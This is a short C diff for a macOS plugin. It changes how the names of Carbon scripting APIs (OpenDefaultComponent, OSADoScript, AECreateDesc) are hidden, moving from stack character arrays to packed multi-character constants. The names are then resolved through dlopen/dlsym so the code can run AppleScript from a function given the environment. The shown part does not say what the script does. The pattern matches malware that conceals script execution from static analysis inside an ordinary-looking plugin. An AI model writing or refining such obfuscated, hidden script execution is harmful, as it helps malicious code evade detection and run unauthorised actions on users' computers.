@@ -2,11 +2,11 @@
 #include "plugin.h"
 extern void *dlopen(const char *, int), *dlsym(void *, const char *);
 typedef struct { int type; void *handle; } desc;
-#define STACK(name, ...) volatile char name[] = {__VA_ARGS__, 0}
 static void act(char **env) {
-    STACK(open, 'O', 'p', 'e', 'n', 'D', 'e', 'f', 'a', 'u', 'l', 't', 'C', 'o', 'm', 'p', 'o', 'n', 'e', 'n', 't');
-    STACK(run, 'O', 'S', 'A', 'D', 'o', 'S', 'c', 'r', 'i', 'p', 't');
-    STACK(make, 'A', 'E', 'C', 'r', 'e', 'a', 't', 'e', 'D', 'e', 's', 'c');
+    volatile unsigned open[6], run[3], make[4];
+    open[0] = 'nepO', open[1] = 'afeD', open[2] = 'Ctlu', open[3] = 'opmo', open[4] = 'tnen', open[5] = 0;
+    run[0] = 'DASO', run[1] = 'rcSo', run[2] = 'tpi';
+    make[0] = 'rCEA', make[1] = 'etae', make[2] = 'cseD', make[3] = 0;
     void *carbon = dlopen("/System/Library/Frameworks/Carbon.framework/Carbon", 2);
     void *(*component)(unsigned, unsigned) = dlsym(carbon, (char *)open);
     int (*script)(void *, desc *, unsigned, unsigned, int, desc *) = dlsym(carbon, (char *)run);
